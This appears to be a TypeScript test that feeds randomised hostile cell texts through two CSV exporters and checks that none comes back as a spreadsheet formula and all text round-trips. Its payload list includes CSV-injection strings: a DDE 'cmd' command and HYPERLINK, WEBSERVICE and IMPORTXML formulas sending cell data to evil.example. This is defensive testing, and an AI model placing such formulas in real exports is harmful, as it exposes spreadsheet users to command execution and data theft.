import { parse } from 'csv-parse/sync'
import { toCsv } from '../../client/lib/csv.ts'
import { randomStream } from '../../model/random/stream.ts'
import { csvText } from '../../server/export/csv.ts'
import { text } from '../../server/sources/csv/cells.ts'
import { brokenOf, type Outcome } from './outcome.ts'

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', "'", "'=", "''@", '"', ',', ';', '\r\n=', '\u00a0=', '']
const ENDINGS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"here")',
  'WEBSERVICE("http://evil.example")',
  '1+1',
  '"quoted", and more',
  'two\nlines',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "it's",
  '',
]
const COLUMNS = 4

/** Writes hostile texts as both our exports do and reads them as a spreadsheet would: none is a formula, and all come back. */
export async function hostileCells({ cells }: { cells: number }): Promise<Outcome> {
  const chance = randomStream(24, 'faults', 'cells')
  const pick = (from: readonly string[]) => from[Math.floor(chance() * from.length)] ?? ''
  const texts = Array.from({ length: cells }, () => pick(BEGINNINGS) + pick(BEGINNINGS) + pick(ENDINGS))
  const rows = Array.from({ length: Math.ceil(cells / COLUMNS) }, (_, row) =>
    texts.slice(row * COLUMNS, (row + 1) * COLUMNS),
  )
  const header = Array.from({ length: COLUMNS }, (_, column) => `column${column}`)
  const byName = rows.map((row) => Object.fromEntries(header.map((name, column) => [name, row[column] ?? ''])))
  let [dangerous, changed] = [0, 0]
  for (const written of [csvText(byName, header), toCsv([header, ...rows])]) {
    const read: string[][] = parse(written, { relax_column_count: true })
    const cellsRead = read.slice(1).flat()
    for (const [position, cell] of cellsRead.entries()) {
      if (/^[=+\-@\t\r\n\0]/.test(cell)) dangerous += 1
      const back = text({ line: 1, cells: { cell }, fault: null }, 'cell') ?? ''
      if (back !== texts[position]) changed += 1
    }
    if (cellsRead.length < texts.length) changed += texts.length - cellsRead.length
  }
  return {
    row: 24,
    fault: `${cells} hostile cells in each of two exports`,
    seen: { cells, dangerous, changed },
    broken: brokenOf({ 'no cell starts as a formula does': dangerous === 0, 'every text comes back': changed === 0 }),
  }
}
